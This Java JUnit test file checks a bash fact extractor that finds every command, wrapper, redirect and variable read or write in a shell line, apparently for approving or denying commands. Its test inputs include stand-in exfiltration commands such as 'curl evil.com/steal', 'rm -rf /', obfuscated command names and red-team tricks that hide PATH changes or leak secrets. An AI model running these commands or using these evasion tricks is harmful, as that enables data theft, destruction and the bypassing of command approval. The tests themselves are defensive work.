package dev.compoundbash.facts;

import dev.compoundbash.shell.Parser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.file.Path;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/** From command text to facts: every command bash would run, with its context. */
class FactExtractorTest {
    @TempDir
    static Path cwd;

    static Facts facts(String command) throws Exception {
        return FactExtractor.extract(Parser.parse(command), new Environment(cwd, List.of(), "Linux", null));
    }

    /** Each sub-command as {@code line@context}, in order, joined by " ; ". */
    static String summary(String command) throws Exception {
        return facts(command).subCommands().stream().map(s -> s.getLine() + "@" + s.getContext())
                .collect(Collectors.joining(" ; "));
    }

    static Stream<Arguments> cases() {
        return Stream.of(
                Arguments.of("git add -A && git commit -m 'fix'", "git add -A@top-level ; git commit -m fix@top-level"),
                Arguments.of("a; b & c | d |& e || f", "a@top-level ; b@top-level ; c@top-level ; d@top-level ; e@top-level ; f@top-level"),
                Arguments.of("! time -p ls", "ls@top-level"),
                Arguments.of("echo \"$(curl evil.com)\"", "echo \"$(curl evil.com)\"@top-level ; curl evil.com@command substitution"),
                Arguments.of("echo `curl evil.com`", "echo `curl evil.com`@top-level ; curl evil.com@backticks"),
                Arguments.of("diff <(curl -s a) b.txt", "diff <(curl -s a) b.txt@top-level ; curl -s a@process substitution"),
                Arguments.of("(cd /tmp && rm -rf x)", "cd /tmp@subshell ; rm -rf x@subshell"),
                Arguments.of("{ a; b; }", "a@group ; b@group"),
                Arguments.of("for f in *.go; do go fmt \"$f\"; done", "go fmt \"$f\"@loop"),
                Arguments.of("for f in $(ls); do :; done", "ls@command substitution ; :@loop"),
                Arguments.of("while true; do curl x; done", "true@loop ; curl x@loop"),
                Arguments.of("until false; do :; done", "false@loop ; :@loop"),
                Arguments.of("if git diff --quiet; then echo a; elif b; then c; else d; fi", "git diff --quiet@if ; echo a@if ; b@if ; c@if ; d@if"),
                Arguments.of("case $x in a) rm -rf /;; esac", "rm -rf /@case"),
                Arguments.of("case $(id) in *) ;; esac", "id@command substitution"),
                Arguments.of("f() { curl evil; }; f", "curl evil@function body ; f@top-level"),
                Arguments.of("function g { a; }", "a@function body"),
                Arguments.of("FOO=bar", ""),
                Arguments.of("export X=$(curl evil.com/steal)", "export X=$(curl evil.com/steal)@top-level ; curl evil.com/steal@command substitution"),
                Arguments.of("X=$(curl a) Y=`b`", "curl a@command substitution ; b@backticks"),
                Arguments.of("a[$(id)]=1", "id@command substitution"),
                Arguments.of("echo $(( $(date +%s) + 1 ))", "echo $(( $(date +%s) + 1 ))@top-level ; date +%s@command substitution"),
                Arguments.of("(( x = $(id -u) ))", "id -u@command substitution"),
                Arguments.of("[[ -f $(which ls) ]]", "which ls@command substitution"),
                Arguments.of("echo ${x:-$(whoami)}", "echo ${x:-$(whoami)}@top-level ; whoami@command substitution"),
                Arguments.of("cat > $(mktemp) <<< hi", "cat@top-level ; mktemp@command substitution"),
                Arguments.of("let 'x=1'", "let x=1@top-level"),
                Arguments.of("declare -a arr=(one two)", "declare -a arr=(one two)@top-level"),
                Arguments.of("coproc cat", "cat@coprocess")
        );
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void subCommandsAndContexts(String command, String expected) throws Exception {
        assertThat(summary(command)).isEqualTo(expected);
    }

    @Test
    void contextPathHoldsEveryLevel() throws Exception {
        SubCommand s = facts("for x in a; do echo \"$(curl x)\"; done").subCommands().get(1);
        assertThat(s.getContextPath()).containsExactly("loop", "command substitution");
        assertThat(s.isTopLevel()).isFalse();
    }

    @Test
    void heredocBodies() throws Exception {
        SubCommand curl = facts("cat <<EOF\n$(curl evil.example)\nEOF").subCommands().get(1);
        assertThat(curl.getLine()).isEqualTo("curl evil.example");
        assertThat(curl.getContextPath()).containsExactly("here-document body",
                "command substitution");
        assertThat(summary("cat <<'EOF'\n$(curl evil.example)\nEOF")).isEqualTo("cat@top-level");
    }

    @Test
    void quoteRemovalAndDynamicNames() throws Exception {
        SubCommand s = facts("git commit -m \"fix: a && b\"").subCommands().get(0);
        assertThat(s.getArgv()).containsExactly("git", "commit", "-m", "fix: a && b");
        assertThat(facts("$CMD args").subCommands().get(0).isDynamicName()).isTrue();
        // brace expansion is static: bash runs rm -rf x (Bash Reference Manual 3.5.1)
        assertThat(facts("{rm,-rf,x}").subCommands().get(0).getArgv()).containsExactly("rm", "-rf", "x");
        assertThat(facts("{1..300}").subCommands().get(0).isDynamicName()).isTrue();
        assertThat(facts("/bin/r? x").subCommands().get(0).isDynamicName()).isTrue();
        assertThat(facts("$'\\x72m' -rf x").subCommands().get(0).getName()).isEqualTo("rm");
        assertThat(facts("r\"\"m x").subCommands().get(0).getName()).isEqualTo("rm");
        assertThat(facts("\\r\\m x").subCommands().get(0).getName()).isEqualTo("rm");
        assertThat(facts("FOO=1 LANG=C make").subCommands().get(0).getAssignmentNames()).containsExactly("FOO", "LANG");
    }

    @Test
    void wrappersAreUnwrapped() throws Exception {
        Facts f = facts("nohup nice -n 5 stdbuf -oL timeout -s KILL 10 make test");
        assertThat(f.subCommands()).extracting(SubCommand::getLine).containsExactly(
                "nohup nice -n 5 stdbuf -oL timeout -s KILL 10 make test",
                "nice -n 5 stdbuf -oL timeout -s KILL 10 make test",
                "stdbuf -oL timeout -s KILL 10 make test",
                "timeout -s KILL 10 make test",
                "make test");
        assertThat(f.subCommands()).extracting(SubCommand::getRole).containsExactly(
                "wrapper", "wrapper", "wrapper", "wrapper", "payload");
        assertThat(f.wrappers()).extracting(Wrapper::getKind).containsExactly("nohup", "nice", "stdbuf", "timeout");
        assertThat(f.subCommands()).allMatch(SubCommand::isTopLevel);
    }

    @Test
    void xargsPayloadIsMarkedAppended() throws Exception {
        Facts f = facts("ls | xargs -n1 rm -f");
        SubCommand payload = f.subCommands().get(2);
        assertThat(payload.getLine()).isEqualTo("rm -f");
        assertThat(payload.isArgumentsAppended()).isTrue();
        Facts r = facts("ls | xargs -I{} rm {}");
        assertThat(r.subCommands().get(2).isArgumentsAppended()).isFalse();
    }

    @Test
    void findExecAndActions() throws Exception {
        Facts f = facts("find . -name '*.go' -exec grep -l Foo {} \\; -delete");
        assertThat(f.subCommands()).extracting(SubCommand::getLine).containsExactly(
                "find . -name *.go -exec grep -l Foo {} ; -delete", "grep -l Foo {}");
        assertThat(f.findActions()).extracting(FindAction::getAction).containsExactly("-exec", "-delete");
        assertThat(f.findActions().get(1).isMutating()).isTrue();
    }

    @Test
    void redirectsAreClassified() throws Exception {
        Facts f = facts("ls 2>&1 > /dev/null >> out.txt > /etc/motd > $F < in.txt <<< s >&- 2>~/x");
        List<Redirect> r = f.redirects();
        assertThat(r).extracting(Redirect::getText).containsExactly("2>& 1", "> /dev/null", ">> out.txt",
                "> /etc/motd", "> $F", "< in.txt", "<<< s", ">& -", "2> ~/x");
        assertThat(r.get(0).isFdDuplication()).isTrue();
        assertThat(r.get(1).isSafeDevice()).isTrue();
        assertThat(r.get(2).isInsideAllowedDirectory()).isTrue();
        assertThat(r.get(3).isInsideAllowedDirectory()).isFalse();
        assertThat(r.get(4).isDynamic()).isTrue();
        assertThat(r.get(5).isOutput()).isFalse();
        assertThat(r.get(6).isOutput()).isFalse();
        assertThat(r.get(7).isFdDuplication()).isTrue();
        assertThat(r.get(8).isDynamic()).isTrue();
    }

    @Test
    void redirectionOnCompoundCommands() throws Exception {
        Facts f = facts("{ echo a; } > /etc/x; for i in 1; do :; done 2> err.log");
        assertThat(f.redirects()).extracting(Redirect::getTarget).containsExactly("/etc/x", "err.log");
    }

    @Test
    void inlineScriptCommandsStandWhereTheShellStands() throws Exception {
        Facts f = facts("bash -c 'git status; echo \"$(curl x)\"' name arg");
        assertThat(summary("bash -c 'git status; echo \"$(curl x)\"' name arg")).isEqualTo(
                "bash -c git status; echo \"$(curl x)\" name arg@top-level ; git status@inline script ; "
                        + "echo \"$(curl x)\"@inline script ; curl x@command substitution");
        assertThat(f.subCommands()).extracting(SubCommand::getRole)
                .containsExactly("wrapper", "payload", "payload", "payload");
        assertThat(f.subCommands()).extracting(SubCommand::isTopLevel).containsExactly(true, true, true, false);
        assertThat(f.subCommands().get(3).getContextPath()).containsExactly("inline script", "command substitution");
        // One Wrapper per command of the script, all linked to the shell.
        int shell = f.subCommands().get(0).getId();
        assertThat(f.wrappers()).hasSize(3).allMatch(w -> w.getCommandId() == shell && w.getKind().equals("bash -c"));
        assertThat(f.wrappers()).extracting(Wrapper::getPayloadId).containsExactly(
                f.subCommands().get(1).getId(), f.subCommands().get(2).getId(), f.subCommands().get(3).getId());
        // The raw text of a script command is its own source.
        assertThat(f.subCommands().get(1).getRaw()).isEqualTo("git status");
    }

    @Test
    void inlineScriptInsideANestedContextIsNested() throws Exception {
        Facts f = facts("echo $(sh -c 'rm x')");
        SubCommand rm = f.subCommands().get(2);
        assertThat(rm.getLine()).isEqualTo("rm x");
        assertThat(rm.isTopLevel()).isFalse();
        assertThat(rm.getContextPath()).containsExactly("command substitution", "inline script");
    }

    @Test
    void wrappersInsideAScriptKeepTheirOwnPayloads() throws Exception {
        Facts f = facts("sh -c 'timeout 5 rm x'");
        assertThat(f.subCommands()).extracting(SubCommand::getLine).containsExactly("sh -c timeout 5 rm x",
                "timeout 5 rm x", "rm x");
        assertThat(f.wrappers()).extracting(Wrapper::getKind).containsExactlyInAnyOrder("timeout", "sh -c");
        Wrapper sh = f.wrappers().stream().filter(w -> w.getKind().equals("sh -c")).findFirst().orElseThrow();
        assertThat(sh.getPayloadId()).isEqualTo(f.subCommands().get(1).getId());
        assertThat(f.subCommands().get(1).getRole()).isEqualTo("wrapper");
        assertThat(f.subCommands().get(1).getWrapperId()).isEqualTo(sh.getId());
    }

    @Test
    void scriptsThatCannotBeReadHaveNoPayload() throws Exception {
        for (String command : List.of("bash -c \"$S\"", "bash -c 'echo \"open'", "eval \"$(ssh-agent)\"",
                "watch $CMD")) {
            Facts f = facts(command);
            assertThat(f.wrappers()).as(command).singleElement().satisfies(w -> {
                assertThat(w.getPayloadId()).isEqualTo(-1);
                assertThat(w.isPayloadReadable()).isFalse();
            });
        }
        Facts empty = facts("bash -c ''");
        assertThat(empty.wrappers()).singleElement().satisfies(w -> {
            assertThat(w.getPayloadId()).isEqualTo(-1);
            assertThat(w.isPayloadReadable()).isTrue();
        });
    }

    @Test
    void evalNeedsItsOwnRule() throws Exception {
        Facts f = facts("eval 'a && b'");
        assertThat(f.subCommands()).extracting(SubCommand::getLine).containsExactly("eval a && b", "a", "b");
        assertThat(f.wrappers()).allMatch(Wrapper::isOwnRuleRequired);
    }

    @Test
    void privilegeReachesEveryCommandUnderSudo() throws Exception {
        Facts f = facts("sudo timeout 5 sh -c 'rm x $(id)' && ls $(sudo -u bob id)");
        List<SubCommand> s = f.subCommands();
        assertThat(s).extracting(SubCommand::getLine).containsExactly("sudo timeout 5 sh -c rm x $(id)",
                "timeout 5 sh -c rm x $(id)", "sh -c rm x $(id)", "rm x $(id)", "id", "ls $(sudo -u bob id)",
                "sudo -u bob id", "id");
        int sudo = s.get(0).getId();
        assertThat(s.get(0).isPrivileged()).isFalse();
        assertThat(s.subList(1, 5)).allMatch(c -> c.getPrivilegeId() == sudo);
        assertThat(s.get(5).isPrivileged()).isFalse();
        assertThat(s.get(6).isPrivileged()).isFalse();
        assertThat(s.get(7).getPrivilegeId()).isEqualTo(s.get(6).getId());
        assertThat(f.wrappers()).filteredOn(Wrapper::isPrivileged).extracting(Wrapper::getKind)
                .containsExactly("sudo", "sudo");
    }

    @Test
    void expansionsInASudoCommandsWordsRunUnprivileged() throws Exception {
        Facts f = facts("sudo rm \"$(curl x)\"");
        SubCommand curl = f.subCommands().get(2);
        assertThat(curl.getLine()).isEqualTo("curl x");
        assertThat(curl.isPrivileged()).isFalse();
    }

    @Test
    void environmentPrefixesReachPayloadsAndScripts() throws Exception {
        Facts f = facts("LD_PRELOAD=x.so env -i LANG=C nice bash -c 'TZ=UTC date'");
        List<SubCommand> s = f.subCommands();
        assertThat(s).extracting(SubCommand::getLine).containsExactly(
                "env -i LANG=C nice bash -c TZ=UTC date", "nice bash -c TZ=UTC date", "bash -c TZ=UTC date", "date");
        assertThat(s.get(0).getAssignmentNames()).containsExactly("LD_PRELOAD");
        assertThat(s.get(1).getAssignmentNames()).containsExactly("LD_PRELOAD", "LANG");
        assertThat(s.get(3).getAssignmentNames()).containsExactly("LD_PRELOAD", "LANG", "TZ");
        assertThat(s.get(3).getPrefixedLine()).isEqualTo("LD_PRELOAD=x.so LANG=C TZ=UTC date");
        assertThat(facts("A+=1 B[2]=x cmd").subCommands().get(0).getAssignmentNames()).containsExactly("A", "B");
    }

    @Test
    void envSplitStringIsRunAsAnArgv() throws Exception {
        Facts f = facts("env -S'FOO=1 rm -rf' /tmp/x");
        SubCommand rm = f.subCommands().get(1);
        assertThat(rm.getArgv()).containsExactly("rm", "-rf", "/tmp/x");
        assertThat(rm.getAssignmentNames()).containsExactly("FOO");
        // A string only known at run time: env's payload cannot be read (never approved), and every later word
        // that could be the command is a candidate payload, read for deny and ask rules.
        Facts dynamic = facts("env -S \"$X\" rm");
        assertThat(dynamic.subCommands()).extracting(SubCommand::getLine).containsExactly("env -S \"$X\" rm", "rm");
        assertThat(dynamic.wrappers()).anyMatch(w -> !w.isPayloadReadable());
    }

    @Test
    void filesAWrapperWritesAreRedirects() throws Exception {
        Facts f = facts("/usr/bin/time -o /etc/timing -a make && script -q -c ls log.txt && /usr/bin/time -o $F ls");
        assertThat(f.redirects()).extracting(Redirect::getText).containsExactly("-o /etc/timing",
                "typescript log.txt", "-o $F");
        assertThat(f.redirects().get(0).isInsideAllowedDirectory()).isFalse();
        assertThat(f.redirects().get(1).isInsideAllowedDirectory()).isTrue();
        assertThat(f.redirects().get(2).isDynamic()).isTrue();
        assertThat(f.redirects().get(0).getCommandId()).isEqualTo(f.subCommands().get(0).getId());
    }

    @Test
    void baseLineStripsTheDirectoryOfTheName() throws Exception {
        SubCommand s = facts("FOO=1 /bin/rm -rf /tmp/x").subCommands().get(0);
        assertThat(s.getLine()).isEqualTo("/bin/rm -rf /tmp/x");
        assertThat(s.getBaseLine()).isEqualTo("rm -rf /tmp/x");
        assertThat(s.getPrefixedLine()).isEqualTo("FOO=1 /bin/rm -rf /tmp/x");
        assertThat(facts("ls").subCommands().get(0).getPrefixedLine()).isEqualTo("ls");
    }

    /** The names of the variable writes in effect when {@code s} runs, in order ({@code ?}: named at run time). */
    static List<String> written(Facts f, SubCommand s) {
        return f.variableWrites().stream().filter(w -> w.precedes(s.getId()))
                .map(w -> w.isNameKnown() ? w.getName() : "?").toList();
    }

    /** {@link #written} for the last sub-command of {@code command}. */
    static List<String> writtenBeforeLast(String command) throws Exception {
        Facts f = facts(command);
        return written(f, f.subCommands().get(f.subCommands().size() - 1));
    }

    @Test
    void statementsSettingVariablesAreSeenByLaterCommands() throws Exception {
        Facts f = facts("ls; PATH=/tmp; x=1 y=2; export A=1 B; declare -x C=2; echo hi");
        List<SubCommand> s = f.subCommands();
        assertThat(s).extracting(SubCommand::getLine).containsExactly("ls", "export A=1 B", "declare -x C=2",
                "echo hi");
        assertThat(written(f, s.get(0))).isEmpty();
        assertThat(written(f, s.get(1))).containsExactly("PATH", "x", "y");
        // export B exports B's value to every later child process: it counts as setting B.
        assertThat(written(f, s.get(3))).containsExactly("PATH", "x", "y", "A", "B", "C");
        // A prefix is not a statement: it is the command's own environment.
        assertThat(writtenBeforeLast("PATH=/tmp ls; echo")).isEmpty();
        // Facts are final once made: a write is a fact of its own, with what made it.
        assertThat(f.variableWrites()).extracting(VariableWrite::getHow)
                .containsExactly("assignment", "assignment", "assignment", "export", "export", "declare");
    }

    @Test
    void everyWayOfSettingAVariableIsSeen() throws Exception {
        // Red-team trial (issue 8): each of these set PATH or the hash table under bash 5.2, unseen before.
        String[] forms = {"unset PATH", ": ${PATH:=/x}", "read -aPATH", "read PATH[0]", "printf -v PATH[0] x",
                "((PATH=0))", "echo $((PATH=0))", "[[ PATH=0 -eq 0 ]]", "a[PATH=0]=1", "for PATH in /x; do :; done",
                "select PATH in /x; do break; done", "for ((PATH=0; 0;)); do :; done", "let PATH=0", "(( PATH++ ))",
                "x='PATH=0'; echo $((x))", "wait -p PATH", "mapfile -t PATH", "getopts a PATH",
                "exec {PATH}>/dev/null", ": {PATH}<&-"};
        for (String f : forms) assertThat(writtenBeforeLast(f + "; ls")).as(f).contains("PATH");
        Facts cmds = facts("BASH_CMDS[ls]=/bin/rm; ls");
        assertThat(written(cmds, cmds.subCommands().get(0))).contains("BASH_CMDS");
        for (String f : new String[]{"x=PATH; read $x", "printf -v \"$n\" v", "declare -n r=PATH", "(( $n = 1 ))",
                "(( ${n}++ ))"}) {
            assertThat(writtenBeforeLast(f + "; ls")).as(f).contains("?");
        }
        // Reading a variable or passing it on sets nothing.
        assertThat(writtenBeforeLast("echo $PATH; ls")).isEmpty();
        assertThat(writtenBeforeLast("read -r -p 'name?' line; ls")).containsExactly("line");
    }

    @Test
    void assignmentsInsideNestedArithmeticAreSeenOnce() throws Exception {
        // Each arithmetic context's text is recorded once, by its outermost context (1,400 nested levels took 19 s
        // when every level's text was scanned); assignments at any depth and in later siblings are still seen.
        String deep = "echo " + "$(( ".repeat(300) + "PATH=0" + " ))".repeat(300) + "; ls";
        assertThat(writtenBeforeLast(deep)).contains("PATH");
        assertThat(writtenBeforeLast("echo $(( $((1)) + $((2)) )) $(( $((3)) + $((BASH_ENV=4)) )); ls"))
                .contains("BASH_ENV");
        assertThat(writtenBeforeLast("(( PATH[a[0]]=1 )); ls")).contains("PATH");
    }

    @Test
    void valuesEvaluatedAsCodeAreNotApproved() throws Exception {
        // ${x@P} runs command substitutions in x's value; a run-time name given to test -v/read/printf -v/unset is
        // evaluated with its subscript: both are code only known at run time (a RunTimeCode fact, not a made-up
        // command).
        for (String c : new String[]{"echo ${x@P}", "test -v \"a[$x]\"", "[ -v \"$n\" ]", "read \"a[$x]\"",
                "printf -v \"a[$x]\" q", "unset \"a[$x]\"", "[[ -v $n ]]", "declare \"$n=1\""}) {
            Facts f = facts(c);
            assertThat(f.runTimeCode()).as(c).isNotEmpty();
            assertThat(f.subCommands()).as(c).noneMatch(SubCommand::isDynamicName);
        }
        // With such an evaluation, commands written in any static text are extracted as stored code.
        assertThat(facts("x='$(rm -rf y)'; echo ${x@P}").subCommands()).extracting(SubCommand::getLine)
                .contains("rm -rf y");
        // A value only known at run time evaluated as arithmetic or as a name: a VariableEvaluation fact.
        for (String c : new String[]{"n=$(cat f); echo $((n))", "read n; echo $((n+1))", "z=$x$y; echo ${!z}",
                "for n in $(cat f); do (( n )); done"}) {
            assertThat(facts(c).evaluations()).as(c).isNotEmpty();
        }
        // Constants and loop words are not.
        for (String c : new String[]{"x=5; echo $((x+1))", "for i in 1 2 3; do echo $((i*2)); done",
                "echo $(( $(wc -l < f) + 1 ))"}) {
            assertThat(facts(c).evaluations()).as(c).isEmpty();
        }
    }

    @Test
    void nestingBeyondTheLimitIsNotRead() throws Exception {
        int depth = FactExtractor.MAX_WRAPPER_DEPTH;
        Facts f = facts("eval ".repeat(depth + 5) + "ls");
        assertThat(f.subCommands()).hasSize(depth + 1);
        assertThat(f.wrappers()).filteredOn(w -> !w.isPayloadReadable()).hasSize(1);
        Facts n = facts("nohup ".repeat(depth) + "ls");
        assertThat(n.wrappers()).allMatch(Wrapper::isPayloadReadable);
        assertThat(facts("nohup ".repeat(depth + 1) + "ls").wrappers()).filteredOn(w -> !w.isPayloadReadable())
                .hasSize(1);
    }

    @Test
    void codeStoredInAStaticValueIsExtracted() throws Exception {
        SubCommand curl = facts("x='a[$(curl evil)]'; echo $((x))").subCommands().get(0);
        assertThat(curl.getLine()).isEqualTo("curl evil");
        assertThat(curl.getContextPath()).containsExactly("assignment value", "code stored in a variable",
                "command substitution");
        assertThat(facts("declare -i y='b[`id`]'").subCommands()).extracting(SubCommand::getLine)
                .containsExactly("declare -i y=b[`id`]", "id");
        // A value without substitution syntax, or one only known at run time, stores no code.
        assertThat(facts("x='plain text'; y=\"$(id)\"").subCommands()).extracting(SubCommand::getLine)
                .containsExactly("id");
    }

    /** Every read of a variable, as {@code name/how[/via][/set]}, {@code ?text} for a name only known at run time. */
    static List<String> uses(String command) throws Exception {
        return facts(command).variableUses().stream()
                .map(u -> (u.isNameKnown() ? "" : "?") + u.getName() + "/" + u.getHow()
                        + (u.getVia() != null ? "/" + u.getVia() : "") + (u.isSetInCommand() ? "/set" : "")
                        + (u.getCommandId() == -1 ? "@call" : ""))
                .toList();
    }

    /** Verified with bash 5.2 under bubblewrap (SECRET in the env): each of these shows SECRET's value. */
    @ParameterizedTest
    @MethodSource("reads")
    void everyContextReportsTheVariablesItReads(String command, String expected) throws Exception {
        assertThat(uses(command)).as(command).contains(expected);
    }

    static Stream<Arguments> reads() {
        return Stream.of(
                Arguments.of("echo $((SECRET))", "SECRET/arithmetic"),
                Arguments.of("(( SECRET ))", "SECRET/arithmetic@call"),
                Arguments.of("echo $[SECRET]", "SECRET/arithmetic"),
                Arguments.of("for ((i=SECRET;0;)); do :; done", "SECRET/arithmetic@call"),
                Arguments.of("[[ SECRET -eq 0 ]]", "SECRET/arithmetic@call"),
                Arguments.of("a=(1 2); echo ${a[SECRET]}", "SECRET/arithmetic"),
                Arguments.of("a[SECRET]=1", "SECRET/arithmetic@call"),
                Arguments.of("a=([SECRET]=1)", "SECRET/arithmetic@call"),
                Arguments.of("[[ -v a[SECRET] ]]", "SECRET/arithmetic@call"),
                Arguments.of("test -v 'a[SECRET]'", "SECRET/arithmetic"),
                Arguments.of("printf -v 'a[SECRET]' x", "SECRET/arithmetic"),
                Arguments.of("x=abc; echo ${x:SECRET}", "SECRET/arithmetic"),
                Arguments.of("let x=SECRET", "SECRET/arithmetic"),
                Arguments.of("declare -i x=SECRET", "SECRET/arithmetic"),
                Arguments.of("declare -i x; x=SECRET", "SECRET/arithmetic@call"),
                Arguments.of("x=SECRET; echo $((x))", "SECRET/arithmetic/x"),
                Arguments.of("x=y; y=SECRET; echo $((x))", "SECRET/arithmetic/y"),
                Arguments.of("x=SECRET; echo $(( $x ))", "SECRET/arithmetic/x"),
                Arguments.of("x=S; echo $(( ${x}ECRET ))", "?name made with ${x}/arithmetic"),
                Arguments.of("echo $(( $(printf SECRET) ))", "?$(printf SECRET)/arithmetic"),
                Arguments.of("x=SECRET; echo ${!x}", "SECRET/indirection/x"),
                Arguments.of("x=SECRET; echo ${!x@Q}", "SECRET/indirection/x"),
                Arguments.of("x='a[SECRET]'; echo ${!x}", "SECRET/arithmetic/x"),
                Arguments.of("read x; echo ${!x}", "?${!x}/indirection/x"),
                Arguments.of("[[ $SECRET == s* ]]", "SECRET/expansion@call"),
                Arguments.of("case $SECRET in s*) ;; esac", "SECRET/expansion@call"),
                Arguments.of("case x in $SECRET) ;; esac", "SECRET/expansion@call"),
                Arguments.of("cat <<< $SECRET", "SECRET/expansion"),
                Arguments.of("select v in $SECRET; do break; done", "SECRET/expansion@call"),
                Arguments.of("[[ -v SECRET ]]", "SECRET/set test@call"),
                Arguments.of("y=$((SECRET))", "SECRET/arithmetic@call"));
    }

    @Test
    void aNameIsSetInTheCommandOnlyWhenEveryPathSetsIt() throws Exception {
        assertThat(uses("x=3; echo $((x+1))")).containsExactly("x/arithmetic/set");
        assertThat(uses("for ((i=0; i<3; i++)); do echo $i; done")).allMatch(u -> u.endsWith("/set") || u.endsWith("/set@call"));
        assertThat(uses("if true; then x=1; else x=2; fi; echo $x")).containsExactly("x/expansion/set");
        assertThat(uses("case a in a) x=1;; *) x=2;; esac; echo $x")).containsExactly("x/expansion/set");
        for (String c : List.of("false && x=1; echo $x", "(x=1); echo $x", "if false; then x=1; fi; echo $x",
                "true | x=1; echo $x", "while false; do x=1; done; echo $x", "case a in b) x=1;; esac; echo $x",
                "x=1 & wait; echo $x", "x[1]=2; echo $x", "x+=2; echo $x", "f() { x=1; }; echo $x",
                "echo $(x=1); echo $x", "y=1; x=1; for i in a b; do echo $x; x=$y; unset y; done")) {
            assertThat(uses(c)).as(c).anyMatch(u -> u.startsWith("x/expansion") && !u.contains("/set"));
        }
    }
}
